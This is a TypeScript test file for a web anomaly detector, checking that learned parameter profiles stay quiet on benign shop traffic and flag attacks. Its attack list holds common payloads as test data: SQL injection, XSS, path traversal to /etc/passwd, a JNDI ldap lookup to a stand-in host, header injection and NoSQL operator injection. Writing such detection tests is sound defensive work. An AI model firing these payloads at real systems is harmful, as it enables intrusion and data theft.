// The acceptance test of the parameter profiles: trained on benign shop traffic, they stay quiet
// on held-out benign traffic (names, cities, searches and comments never seen in training) and
// flag each attack on the right parameter with the right model.
import { Counters } from '@sidetap/core';
import type { Event } from '@sidetap/core';
import { extractParameters } from './extractParameters';
import type { ParameterDeviation, ParameterModel } from './parameterDeviation';
import { ParameterProfiles } from './parameterProfiles';
import { parameterProfilesConfigSchema } from './parameterProfilesConfig';
import { benignTraffic, download, formEncode, login, makeEvent, productBody, productSearchWith, profileBody, profileUpdate } from './testTraffic';
import type { ProfileBody } from './testTraffic';
import { Rng } from './testValues';

const config = parameterProfilesConfigSchema.parse({});
const TRAINING_EVENTS = 2500; // 500 per endpoint
const HELD_OUT_EVENTS = 10_000;

function trainedProfiles(): ParameterProfiles {
  const profiles = new ParameterProfiles(config, { counters: new Counters() });
  for (const event of benignTraffic(1, TRAINING_EVENTS, 'train')) profiles.learn(event);
  return profiles;
}

describe('held-out benign traffic', () => {
  const profiles = trainedProfiles();
  const values = new Map<string, number>();
  const flagged = new Map<string, number>();
  const examples: ParameterDeviation[] = [];
  for (const event of benignTraffic(2, HELD_OUT_EVENTS, 'holdout')) {
    for (const p of extractParameters(event, config)) {
      const key = `${event.sidetap.endpoint} ${p.name}`;
      values.set(key, (values.get(key) ?? 0) + 1);
    }
    for (const d of profiles.score(event)) {
      const key = `${d.endpoint} ${d.parameter}`;
      flagged.set(key, (flagged.get(key) ?? 0) + 1);
      examples.push(d);
    }
  }
  const totalValues = [...values.values()].reduce((a, b) => a + b, 0);
  const totalFlagged = [...flagged.values()].reduce((a, b) => a + b, 0);

  it('covers every kind of benign value', () => {
    expect(values.size).toBeGreaterThanOrEqual(25);
    expect(totalValues).toBeGreaterThan(60_000);
  });

  it('raises deviations on under 0.1% of parameter values overall', () => {
    expect(totalFlagged / totalValues).toBeLessThan(0.001);
  });

  it('raises deviations on under 1% of the values of every parameter', () => {
    const noisy = [...values].map(([key, n]) => ({ key, rate: (flagged.get(key) ?? 0) / n })).filter((p) => p.rate >= 0.01);
    expect(noisy).toEqual([]);
  });

  it('never quotes a hashed secret', () => {
    for (const d of examples) expect(d.excerpt).not.toMatch(/h:[A-Za-z0-9_-]{22}/);
  });
});

interface Attack {
  name: string;
  event: (r: Rng) => Event;
  /** Every deviation must name one of these parameters, and this one with this model must be among them. */
  parameter: string;
  model: ParameterModel;
  also?: string[];
}

/** A profile update with one change; `raw` is the same body, for fields the type does not have. */
const withBody = (change: (b: ProfileBody, raw: Record<string, unknown>) => void) => (r: Rng): Event => {
  const body = profileBody(r);
  change(body, body as unknown as Record<string, unknown>);
  return profileUpdate(r, body);
};

const BUFFER = 'A'.repeat(2048);

const ATTACKS: Attack[] = [
  { name: 'SQL injection in a search', event: (r) => productSearchWith(r, [['q', "' OR 1=1--"]]), parameter: 'q', model: 'shape' },
  { name: 'SQL injection in a name', event: withBody((b) => (b.user.name = "x' OR 1=1--")), parameter: 'user.name', model: 'shape' },
  { name: 'SQL injection in a city', event: withBody((b) => (b.user.address.city = "'; DROP TABLE users;--")), parameter: 'user.address.city', model: 'shape' },
  { name: 'SQL injection in a uuid', event: withBody((b) => (b.externalId = "1' OR '1'='1")), parameter: 'externalId', model: 'shape', also: ['externalId'] },
  { name: 'SQL injection in a date', event: withBody((b) => (b.birthdate = "1990-01-01' OR '1'='1")), parameter: 'birthdate', model: 'shape' },
  { name: 'XSS in a search', event: (r) => productSearchWith(r, [['q', '<script>alert(1)</script>']]), parameter: 'q', model: 'shape' },
  { name: 'XSS in a name', event: withBody((b) => (b.user.name = '<script>alert(1)</script>')), parameter: 'user.name', model: 'shape' },
  { name: 'XSS in an email', event: withBody((b) => (b.user.email = 'a@b.com"><svg/onload=alert(1)>')), parameter: 'user.email', model: 'shape' },
  { name: 'path traversal in a file name', event: (r) => download(r, '../../etc/passwd'), parameter: 'file', model: 'shape' },
  {
    name: 'JNDI lookup in the user agent',
    event: () => makeEvent({ endpoint: '/api/v1/products', query: 'q=shoes', headers: { 'user-agent': '${jndi:ldap://x.example/a}', accept: '*/*' } }),
    parameter: 'user-agent',
    model: 'shape',
  },
  { name: 'JNDI lookup in a search', event: (r) => productSearchWith(r, [['q', '${jndi:ldap://x}']]), parameter: 'q', model: 'shape' },
  { name: '2 KB buffer in a search (length)', event: (r) => productSearchWith(r, [['q', BUFFER]]), parameter: 'q', model: 'length' },
  { name: '2 KB buffer in a search (characters)', event: (r) => productSearchWith(r, [['q', BUFFER]]), parameter: 'q', model: 'chars' },
  { name: '2 KB buffer in a comment (characters)', event: withBody((b) => (b.comment = BUFFER)), parameter: 'comment', model: 'chars' },
  { name: '2 KB buffer in a comment (length)', event: withBody((b) => (b.comment = BUFFER)), parameter: 'comment', model: 'length' },
  { name: '2 KB of text in a name', event: withBody((b) => (b.user.name = 'Anna Smith '.repeat(190))), parameter: 'user.name', model: 'length' },
  { name: 'control bytes in a search', event: (r) => productSearchWith(r, [['q', 'shoes\u0000\u0001\u001b[2J']]), parameter: 'q', model: 'shape' },
  { name: 'invalid UTF-8 in a search', event: (r) => makeEvent({ endpoint: '/api/v1/products', query: 'q=ab%ff%fe%c3', headers: productBody(r) }), parameter: 'q', model: 'shape' },
  { name: 'control bytes in a form field', event: (r) => login(r, [['username', 'ann@example.org\r\nX-Injected: 1'], ['password', 'h:abcdefghijklmnopqrstuv']]), parameter: 'username', model: 'shape' },
  { name: 'letters in a numeric id', event: withBody((b) => (b.accountId = '12abc')), parameter: 'accountId', model: 'shape' },
  { name: 'letters in a page number', event: (r) => productSearchWith(r, [['q', 'shoes'], ['page', '2abc']]), parameter: 'page', model: 'shape' },
  { name: 'unknown enumeration value', event: (r) => productSearchWith(r, [['q', 'shoes'], ['sort', 'price_asc;drop']]), parameter: 'sort', model: 'enum' },
  { name: 'unknown enumeration value of the same shape', event: (r) => productSearchWith(r, [['q', 'shoes'], ['sort', 'oldest']]), parameter: 'sort', model: 'enum' },
  { name: 'missing required field', event: withBody((b) => delete (b.user as Partial<ProfileBody['user']>).email), parameter: 'user.email', model: 'presence' },
  { name: 'missing password', event: (r) => login(r, [['username', 'ann@example.org']]), parameter: 'password', model: 'presence' },
  { name: 'unexpected extra parameter', event: (r) => productSearchWith(r, [['q', 'shoes'], ['debug', 'true']]), parameter: 'debug', model: 'presence' },
  { name: 'unexpected extra JSON field', event: withBody((_, raw) => (raw['isAdmin'] = true)), parameter: 'isAdmin', model: 'presence' },
  {
    name: 'NoSQL operator instead of a value',
    event: withBody((_, raw) => (raw['accountId'] = { $ne: null })),
    parameter: 'accountId.$ne',
    model: 'presence',
    also: ['accountId'],
  },
  { name: 'parameters out of order', event: (r) => productSearchWith(r, [['sort', 'newest'], ['q', 'shoes']]), parameter: 'sort', model: 'order' },
];

describe('attacks', () => {
  const profiles = trainedProfiles();
  const r = new Rng(99, 'holdout');

  it.each(ATTACKS.map((a) => [a.name, a] as const))('flags %s', (_, attack) => {
    const deviations = profiles.score(attack.event(r));
    expect(deviations.map((d) => `${d.parameter}/${d.model}`)).toContain(`${attack.parameter}/${attack.model}`);
    // Precision: nothing else in the request is blamed.
    const blamed = new Set([attack.parameter, ...(attack.also ?? [])]);
    expect(deviations.filter((d) => !blamed.has(d.parameter))).toEqual([]);
    const hit = deviations.find((d) => d.parameter === attack.parameter && d.model === attack.model);
    expect(hit?.score).toBeGreaterThanOrEqual(config.threshold);
    expect(hit?.reason).toContain(attack.parameter);
    expect(hit?.excerpt.length).toBeLessThanOrEqual(120);
  });

  it('reports what was expected and what was seen', () => {
    const [deviation] = profiles.score(withBody((b) => (b.accountId = '12abc'))(r));
    expect(deviation).toEqual({
      endpoint: '/api/v1/users/{id}/profile',
      method: 'POST',
      parameter: 'accountId',
      location: 'json',
      model: 'shape',
      score: expect.any(Number) as number,
      reason: 'JSON field accountId contains lower-case letters, which none of its 500 learned values did.',
      excerpt: '12abc',
    });
  });

  it('quotes control characters escaped', () => {
    const deviations = profiles.score(productSearchWith(r, [['q', 'shoes\u0000\u001b']]));
    expect(deviations.find((d) => d.parameter === 'q')?.excerpt).toBe('shoes\\x00\\x1b');
  });

  it('uses formEncode for attack requests as browsers would', () => {
    expect(formEncode([['q', "' OR 1=1--"]])).toBe("q='+OR+1%3D1--");
  });
});

describe('free text', () => {
  // Comments keep bringing punctuation seen once before ('&', '+', a quote), so a new mark is
  // only surprising once enough comments were seen: the Good–Turing p is (singletons + 1) / (n + 1).
  const xss = withBody((b) => (b.comment = 'Nice <img src=x onerror=alert(1)>'));

  it('does not yet flag markup in a comment after 250 comments with three marks seen once', () => {
    const profiles = trainedProfiles();
    expect(profiles.score(xss(new Rng(5, 'holdout')))).toEqual([]);
  });

  it('flags it after 500 comments', () => {
    const profiles = new ParameterProfiles(config, { counters: new Counters() });
    for (const event of benignTraffic(1, 2 * TRAINING_EVENTS, 'train')) profiles.learn(event);
    const deviations = profiles.score(xss(new Rng(5, 'holdout')));
    expect(deviations.map((d) => `${d.parameter}/${d.model}`)).toEqual(['comment/shape']);
    expect(deviations[0]?.reason).toMatch(/contains '<', '=' and '>'/);
  });
});
